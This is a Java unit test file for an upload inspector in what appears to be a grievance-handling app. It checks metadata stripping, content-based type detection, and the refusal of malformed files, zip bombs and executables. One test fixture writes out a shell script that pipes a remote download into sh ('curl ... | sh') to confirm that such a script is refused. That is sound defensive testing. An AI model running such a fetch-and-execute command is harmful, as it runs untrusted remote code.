package coop.steward.grievance;

import coop.steward.common.digest.Sha256;
import coop.steward.common.problem.ProblemException;
import org.apache.commons.imaging.Imaging;
import org.apache.commons.imaging.formats.jpeg.JpegImageMetadata;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

class AttachmentInspectorTest {

    private final AttachmentInspector inspector = new AttachmentInspector(
            new AttachmentLimits(AttachmentLimits.TEN_MIB, AttachmentLimits.HUNDRED_MIB));

    @Test
    void thePhotoLosesItsGpsTagButKeepsItsImageData() throws Exception {
        byte[] photo = SampleFiles.photoJpegWithGps();
        assertThat(((JpegImageMetadata) Imaging.getMetadata(photo)).getExif().getGpsInfo()).isNotNull();

        InspectedAttachment kept = inspector.inspect(photo, "IMG_2041.jpg", "image/jpeg");

        assertThat(kept.type()).isEqualTo(AttachmentType.JPEG);
        JpegImageMetadata metadata = (JpegImageMetadata) Imaging.getMetadata(kept.bytes());
        assertThat(metadata == null || metadata.getExif() == null || metadata.getExif().getGpsInfo() == null).isTrue();
        assertThat(scanData(kept.bytes())).isEqualTo(scanData(photo));
        assertThat(kept.sha256()).isEqualTo(Sha256.hex(kept.bytes())).hasSize(64);
    }

    @Test
    void theTypeComesFromTheBytesNotFromANeutralName() {
        assertThat(inspector.inspect(SampleFiles.screenshotPng(), "upload", "application/octet-stream").type())
                .isEqualTo(AttachmentType.PNG);
        assertThat(inspector.inspect(SampleFiles.TINY_WEBP, null, null).type()).isEqualTo(AttachmentType.WEBP);
        assertThat(inspector.inspect(SampleFiles.noteText(), "notes.md", "text/markdown").type())
                .isEqualTo(AttachmentType.TEXT);
        assertThat(inspector.inspect(contractPdf(), "contract.pdf", "application/pdf").type())
                .isEqualTo(AttachmentType.PDF);
    }

    @Test
    void aPngScreenshotLosesItsTextAndExifChunks() {
        InspectedAttachment kept = inspector.inspect(SampleFiles.screenshotPngWithMetadata(), "Screenshot.png", "image/png");

        assertThat(kept.bytes()).isEqualTo(SampleFiles.screenshotPng());
    }

    @Test
    void aWebpLosesItsExifAndXmpChunks() {
        InspectedAttachment kept = inspector.inspect(SampleFiles.webpWithMetadata(false), "chat.webp", "image/webp");

        assertThat(kept.bytes()).isEqualTo(SampleFiles.webpWithoutMetadata(false));
    }

    @Test
    void textNamedAsAPngIsRefusedAsAMismatch() {
        ProblemException refused = refuse(SampleFiles.noteText(), "payslip.png", "image/png");

        assertThat(refused.type()).isEqualTo(AttachmentInspector.TYPE_MISMATCH);
    }

    @Test
    void aPngThatIsOnlyASignatureIsRefusedAsMalformed() {
        byte[] fake = Arrays.copyOf(PngMetadata.SIGNATURE, 200);
        Arrays.fill(fake, 8, 200, (byte) 'x');

        assertThat(refuse(fake, "payslip.png", "image/png").type()).isEqualTo(AttachmentInspector.MALFORMED);
    }

    @Test
    void aJpegWhoseSegmentsAreGarbageIsRefusedAsMalformed() {
        byte[] fake = new byte[300];
        fake[0] = (byte) 0xFF;
        fake[1] = (byte) 0xD8;
        fake[2] = (byte) 0xFF;
        fake[3] = (byte) 0xE0;
        fake[4] = (byte) 0xFF;
        fake[5] = (byte) 0xFF;

        assertThat(refuse(fake, "photo.jpg", "image/jpeg").type()).isEqualTo(AttachmentInspector.MALFORMED);
    }

    @Test
    void aPdfThatCannotBeOpenedIsRefused() {
        byte[] fake = "%PDF-1.7\nnot really a document".getBytes(StandardCharsets.US_ASCII);

        assertThat(refuse(fake, "contract.pdf", "application/pdf").type()).isEqualTo(AttachmentInspector.MALFORMED);
    }

    @Test
    void aZipBombIsRefusedByItsTypeWithoutBeingUnpacked() {
        ProblemException refused = refuse(SampleFiles.zipBomb(), "evidence.png", "image/png");

        assertThat(refused.type()).isEqualTo(AttachmentInspector.TYPE_REFUSED);
        assertThat(refused.getMessage()).contains("application/zip");
    }

    @Test
    void executablesAreRefusedWhateverTheyAreCalled() {
        assertThat(refuse(SampleFiles.elfExecutable(), "screenshot.png", "image/png").type())
                .isEqualTo(AttachmentInspector.TYPE_REFUSED);
        assertThat(refuse(SampleFiles.windowsExecutable(), "notes.txt", "text/plain").type())
                .isEqualTo(AttachmentInspector.TYPE_REFUSED);
        assertThat(refuse("#!/bin/sh\ncurl http://example.invalid | sh\n".getBytes(StandardCharsets.US_ASCII),
                "notes.txt", "text/plain").type()).isEqualTo(AttachmentInspector.TYPE_REFUSED);
    }

    @Test
    void anEmptyFileIsRefused() {
        assertThat(refuse(new byte[0], "empty.txt", "text/plain").type()).isEqualTo(AttachmentInspector.EMPTY);
    }

    @Test
    void aFileOverTheLimitIsRefusedBeforeItsTypeIsRead() {
        AttachmentInspector small = new AttachmentInspector(new AttachmentLimits(1_000, 5_000));

        ProblemException refused = catchThrowableOfType(ProblemException.class,
                () -> small.inspect(new byte[1_001], "scan.pdf", "application/pdf"));

        assertThat(refused.type()).isEqualTo(AttachmentInspector.TOO_LARGE);
        assertThat(small.inspect(Arrays.copyOf(SampleFiles.noteText(), 80), "a.txt", null).size()).isEqualTo(80);
    }

    @Test
    void aNameLosesItsFoldersAndControlCharacters() {
        InspectedAttachment kept = inspector.inspect(SampleFiles.noteText(), "C:\\Users\\amina\\notes\u0007.txt", null);

        assertThat(kept.fileName()).isEqualTo("notes.txt");
    }

    private ProblemException refuse(byte[] bytes, String name, String declared) {
        ProblemException refused = catchThrowableOfType(ProblemException.class, () -> inspector.inspect(bytes, name, declared));
        assertThat(refused).as("the file should have been refused").isNotNull();
        assertThat(refused.violations()).extracting(v -> v.field()).containsExactly("file");
        return refused;
    }

    /** The entropy-coded image data: everything from the start-of-scan marker on. */
    static byte[] scanData(byte[] jpeg) {
        for (int i = 2; i < jpeg.length - 1; i++) {
            if ((jpeg[i] & 0xFF) == 0xFF && (jpeg[i + 1] & 0xFF) == 0xDA) {
                return Arrays.copyOfRange(jpeg, i, jpeg.length);
            }
        }
        throw new AssertionError("no start of scan in the JPEG");
    }

    static byte[] contractPdf() {
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.addPage(new PDPage());
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }
}
